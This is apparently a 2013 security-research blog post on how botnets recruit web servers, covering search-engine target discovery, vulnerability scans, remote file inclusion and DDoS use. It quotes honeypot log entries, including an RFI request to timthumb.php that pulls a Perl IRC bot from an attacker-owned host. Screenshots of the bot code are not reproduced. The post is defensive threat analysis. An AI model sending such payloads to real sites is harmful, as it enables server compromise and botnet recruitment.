Blogs & Stories

SpiderLabs Blog

Attracting more than a half-million annual readers, this is the security community's go-to destination for technical breakdowns of the latest threats, critical vulnerability disclosures and cutting-edge research.

The Life Cycle of Web Server Botnet RecruitmentThis blog post is an excerpt taken from the recently released Global Security Report (GSR) for 2013.

Over the course of the past year, my team has monitored and analyzed vast amounts of data within our Web honeypots and shared intelligence in our [Honeypot Alert] blog posts. In this blog post, we want to illustrate the most common methods botnet owners use to compromise websites and make them part of their army. The data in this section shows examples of code snippets and log file entries from real captured attacks.

Why target web servers vs. infecting end-user computers? There are a number of factors that make web servers attractive targets for botnet owners:
  1. Web servers are always online where as home computer systems are often shutdown when not in use. This means that the number of botnet systems in control at any one time is variable. This factors into the botnet owner's service offerings as they are often selling their botnet services and having a reliable, strong botnet is key.
  2. Web servers have more network bandwidth than home computer users. This essentially is a Quality of Service metric where commercial web servers are guaranteed specific amounts of network bandwidth usage whereas home computer users typically have much less bandwidth. Additionally, home user network traffic is oftentimes throttled which would make their DDoS attack traffic less.
  3. Web servers have more horse power then home computers. The number of CPUs, RAM, etc... means that commercial servers can generate much more network DDoS traffic then home computer systems.
  4. Web servers are less likely to be blacklisted by ISP vs. home computer systems. This means that web server botnet zombies will be online, sending trafficmuch longer than home computers.
Essentially, web server botnet participants are like "Super Soldiers" compared to normal grunts in the botnet army.


Step 1: IRC botnet instructs zombies to search for targets

First, attackers identify potential target sites. While it is possible to methodically scan network ranges looking for targets, it is more efficient to use data already collected by legitimate search sites (e.g., Google, Bing, Yahoo). By using their built-in search capabilities, botnet operators can instruct zombies (previously compromised websites or home computer systems) to send custom search queries. Here is an example of the IRC botnet help interfacethat lists command options:

Screen shot 2013-03-06 at 2.27.08 PM

Here is a listing of the top web vulnerabilities that are targeted by botnet attackers:

Screen shot 2013-03-06 at 2.48.01 PM

If the attacker wants to execute an RFI attack, it will execute this section of code:

Screen shot 2013-03-06 at 2.33.36 PM

Step 2: IRC botnet zombies conduct search engine queries

Zombie clients receive their search commands from the operator and use code to send requests to the various search engines. The results are then parsed to identify target websites that match the vulnerability search data.

Here is an example section of a Perl botnet client's code that lists various Search Engines to use:

Screen shot 2013-03-06 at 2.07.35 PM

And here is the section of code that sends the actual queries:

Screen shot 2013-03-06 at 2.09.50 PM

Step 3: IRC botnet instructs zombie to scan targetsfor vulnerabilities

Next, zombies verify the existence of thevulnerabilities in the target websites. Here is an example access_log entry: - - [06/Mar/2013:02:07:09 +0100] "GET /wp-content/themes/kingsize/timthumb.php HTTP/1.1" 404 318 "-" "Mozilla/5.0 (Windows NT 5.1; rv:2.0.1) Gecko/20100101 Firefox/4.0.1"

Step 4: IRC botnet instructs zombie to exploit vulnerability & install botnet client code

These malicious requests attempt totrick the Web application into downloading the code (hosted on a remote, attacker-owned site). If the Web application is vulnerable, it attempts to download the code. In most cases, simply downloading the code is enough, since the attacker can access the file by Web browser. - - [06/Mar/2013:02:07:11 +0100] "GET /wp-content/themes/kingsize/timthumb.php?src=http://picasa.com.ritile.com/black.txt HTTP/1.1" 404 318 "-" "Mozilla/5.0 (Windows NT 5.1; rv:2.0.1) Gecko/20100101 Firefox/4.0.1"

In this case, the black.txt file is a Perl IRC botnet client script that executes and then logs the compromised web server into the attacker's IRC channel:

Screen shot 2013-03-06 at 2.57.47 PM

Thebotnet owner then continues this process over and over again amassing a huge army of compromised web servers.

Post-Recruitment Actions

There are many different tasks that a large botnet can perform for their operator, however the most prevalent one at this point is initiating DDoS attacks as part of either Hacktivist or For-Profit campaigns.Here is an example "HTTPFlood" section ofcode:

Screen shot 2013-03-06 at 3.06.26 PM